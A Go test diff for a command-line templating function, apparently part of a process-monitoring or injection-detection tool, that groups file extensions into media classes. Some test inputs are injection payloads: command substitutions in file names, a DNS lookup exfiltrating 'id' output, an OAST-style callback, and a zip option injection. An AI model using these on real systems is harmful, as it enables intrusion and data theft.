@@ -17,9 +17,9 @@ func TestCommandTemplate(t *testing.T) {
 	}{
 		{"numbers", []string{"/bin/sh", "-c", "/usr/local/bin/mklabel 1002 pdf"}, "/bin/sh -c /usr/local/bin/mklabel <n> pdf"},
 		{"file names keep dir and extension", []string{"sh", "-c", "convert /srv/media/MUG-1.png -resize 64x64 /srv/cache/thumb-MUG-1.png"},
-			"sh -c convert /srv/media/<file>.png -resize <n>x<n> /srv/cache/<file>.png"},
+			"sh -c convert /srv/media/<file>.<image> -resize <n>x<n> /srv/cache/<file>.<image>"},
 		{"quoted file names", []string{"sh", "-c", "convert '/var/www/up/summer.png' '/var/www/up/thumb-summer.png'"},
-			"sh -c convert '/var/www/up/<file>.png' '/var/www/up/<file>.png'"},
+			"sh -c convert '/var/www/up/<file>.<image>' '/var/www/up/<file>.<image>'"},
 		{"temp dirs", []string{"php", "/tmp/phpA1b2C3", "--out=/var/tmp/x91.json"}, "php /tmp/<tmp> --out=/var/tmp/<tmp>.json"},
 		{"hashes and uuids", []string{"cache-warm", "3f2a9c1d0be47a55", "123e4567-e89b-12d3-a456-426614174000"}, "cache-warm <hex> <uuid>"},
 		{"addresses are kept", []string{"ping", "-c", "1", "127.0.0.1"}, "ping -c <n> 127.0.0.1"},
@@ -32,8 +32,15 @@ func TestCommandTemplate(t *testing.T) {
 			"sh -c convert /srv/media/$(id).png /srv/cache/x`uname`.png"},
 		// a list of bare file names of any length is one shape
 		{"bare file names, any number", []string{"/usr/bin/zip", "-j", "-q", "/tmp/packYx1.zip", "mug-red.png", "tee-green.png", "cap.png"},
-			"/usr/bin/zip -j -q /tmp/<tmp>.zip <file>.png"},
-		{"one bare file name", []string{"/usr/bin/zip", "-j", "-q", "/tmp/pack9.zip", "mug-red.png"}, "/usr/bin/zip -j -q /tmp/<tmp>.zip <file>.png"},
+			"/usr/bin/zip -j -q /tmp/<tmp>.zip <file>.<image>"},
+		// a medium's container is one run's data; a format that runs code
+		// or a script is a kind of its own (benign-shop-needledrop: the
+		// sellers' WAV, FLAC and MP3 recordings through one sox command)
+		{"media of one kind", []string{"sh", "-c", "sox -q '/srv/samples/ND-1004.wav' -C 4 'ND-1004.ogg' && sox -q '/srv/samples/ND-1007.mp3' x.FLAC"},
+			"sh -c sox -q '/srv/samples/<file>.<audio>' -C <n> '<file>.<audio>' && sox -q '/srv/samples/<file>.<audio>' <file>.<audio>"},
+		{"code-bearing formats keep theirs", []string{"sh", "-c", "convert /srv/up/a.svg /srv/up/b.ps /srv/up/c.php /srv/up/d.jpeg"},
+			"sh -c convert /srv/up/<file>.svg /srv/up/<file>.ps /srv/up/<file>.php /srv/up/<file>.<image>"},
+		{"one bare file name", []string{"/usr/bin/zip", "-j", "-q", "/tmp/pack9.zip", "mug-red.png"}, "/usr/bin/zip -j -q /tmp/<tmp>.zip <file>.<image>"},
 		{"a host name is no file", []string{"curl", "-s", "updates.example.com"}, "curl -s updates.example.com"},
 		// a lookup's name is its data; its server and record type are not
 		{"a name looked up", []string{"sh", "-c", "dig +short +time=2 @127.0.0.1 -p 5353 MX 'example.org'"}, "sh -c dig +short +time=<n> @127.0.0.1 -p <n> MX '<name>'"},
@@ -42,7 +49,7 @@ func TestCommandTemplate(t *testing.T) {
 		{"a domain's registration looked up", []string{"sh", "-c", "whois -h 127.0.0.1 -p 4343 'tsv-nordheim.de' 2>&1"}, "sh -c whois -h 127.0.0.1 -p <n> '<name>' <n>>&<n>"},
 		{"host's name, not a connect", []string{"sh", "-c", "host -t TXT x7k2.oast.example && curl -s http://x7k2.oast.example/"}, "sh -c host -t TXT <name> && curl -s http://x<n>k<n>.oast.example/"},
 		{"a substitution in the name stays", []string{"sh", "-c", "dig $(id | base64).example.com"}, "sh -c dig $(id | base<n>).example.com"},
-		{"an option is no file", []string{"zip", "--unzip-command=echo z-$((6*7))", "-T", "a.png"}, "zip --unzip-command=echo z-$((<n>*<n>)) -T <file>.png"},
+		{"an option is no file", []string{"zip", "--unzip-command=echo z-$((6*7))", "-T", "a.png"}, "zip --unzip-command=echo z-$((<n>*<n>)) -T <file>.<image>"},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			if got := commandTemplate(tc.args); got != tc.want {
